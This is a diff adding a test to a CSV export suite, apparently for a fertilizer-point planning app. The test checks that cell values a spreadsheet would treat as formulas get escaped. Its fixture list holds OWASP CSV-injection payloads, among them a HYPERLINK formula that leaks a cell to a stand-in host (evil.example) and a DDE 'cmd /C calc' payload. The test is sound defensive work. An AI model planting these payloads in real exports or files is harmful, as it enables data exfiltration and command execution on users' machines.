@@ -2,8 +2,8 @@ import { parse } from "csv-parse/sync";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { Database } from "../server/db/database.ts";
 import { CSV_FIELDS } from "../server/export/coverage-csv.ts";
+import { ADMIN, run } from "./support/graphql.ts";
 import { independentCoverage, rankWithinParent } from "./support/independent-coverage.ts";
-import { run } from "./support/graphql.ts";
 import { openSeededApp, type RunningApp } from "./support/http.ts";
 
 describe("GET /export/coverage.csv", () => {
@@ -91,5 +91,49 @@ describe("GET /export/coverage.csv", () => {
     const bad = await fetch(`${app.url}/export/coverage.csv?${query}&format=xlsx`);
     expect(bad.status).toBe(400);
     expect(((await bad.json()) as { error: string }).error).toContain("format");
+  });
+
+  // What a hostile boundary or fertilizer-point file could name a place (OWASP's CSV injection cases).
+  const FORMULAS = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"Klik")',
+    "+1+cmd|' /C calc'!A0",
+    "-2+3",
+    "@SUM(A1:A9)",
+    "\tTab",
+    "\rReturn",
+  ];
+  /** Every cell a spreadsheet would take as a formula: starts with = + - @ tab or CR and is not a plain number. */
+  const formulaCells = (rows: string[][]) => rows.flat().filter((c) => /^[=+\-@\t\r]/.test(c) && !Number.isFinite(Number(c)));
+
+  it("escapes cells a spreadsheet would run as formulas, in the coverage and plan CSVs; numbers stay numbers", async () => {
+    const villages = await db.sql.query<{ code: string }>(
+      `SELECT code FROM region WHERE level = 'VILLAGE' ORDER BY code LIMIT ${FORMULAS.length}`,
+    );
+    for (const [i, { code }] of villages.entries()) await db.sql.query(`UPDATE region SET name = $1 WHERE code = $2`, [FORMULAS[i], code]);
+    await db.sql.query(`UPDATE region SET name = $1 WHERE code = '35.26.01'`, [FORMULAS[0]]);
+    const coverage = parse(await (await fetch(`${app.url}/export/coverage.csv?level=VILLAGE`)).text(), {
+      relax_quotes: true,
+    }) as string[][];
+    const [header, ...rows] = coverage;
+    const named = new Map(rows.map((r) => [r[header!.indexOf("code")], r]));
+    for (const [i, { code }] of villages.entries()) {
+      expect(named.get(code)![header!.indexOf("name")]).toBe(`'${FORMULAS[i]}`);
+      expect(named.get(code)![header!.indexOf("parentName")]).toBe(`'${FORMULAS[0]}`);
+    }
+    expect(formulaCells(rows)).toEqual([]);
+
+    const points = await db.sql.query<{ id: number }>(`SELECT id FROM fertilizer_point ORDER BY id`);
+    for (const { id } of points)
+      await db.sql.query(`UPDATE fertilizer_point SET name = $1 WHERE id = $2`, [FORMULAS[id % FORMULAS.length], id]);
+    const SAVE = `mutation ($input: PlanInput!) { savePlan(name: "=1+1", input: $input) { id plan { sites { name lat lon } } } }`;
+    const saved = (await run(db, SAVE, { input: { sessions: 4, from: "2025-10-01", to: "2026-01-31" } }, ADMIN)).data!.savePlan;
+    const [planHeader, ...planRows] = parse(await (await fetch(`${app.url}/export/plans/${saved.id}.csv`)).text()) as string[][];
+    const col = (name: string) => planRows.map((r) => r[planHeader!.indexOf(name)]);
+    expect(new Set(col("siteName"))).toEqual(new Set(saved.plan.sites.map((s: { name: string }) => `'${s.name}`)));
+    expect(saved.plan.sites.every((s: { name: string }) => FORMULAS.includes(s.name))).toBe(true);
+    expect(formulaCells(planRows)).toEqual([]);
+    // Latitudes south of the equator: negative numbers, written as numbers.
+    expect(new Set(col("lat").map(Number))).toEqual(new Set(saved.plan.sites.map((s: { lat: number }) => s.lat)));
+    expect(col("lat").every((v) => /^-\d/.test(v))).toBe(true);
   });
 });
